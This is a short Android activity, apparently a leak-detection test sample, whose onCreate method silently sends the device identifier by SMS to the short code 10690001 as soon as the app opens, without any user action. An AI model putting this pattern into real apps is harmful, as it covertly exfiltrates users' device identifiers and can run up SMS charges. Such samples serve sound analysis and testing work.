package cn.shanhai.arrayastext;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import java.util.Arrays;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    String[] parts = {Device.id(this), "v1"};
    SmsManager.getDefault().sendTextMessage("10690001", null, Arrays.toString(parts), null, null);
  }
}
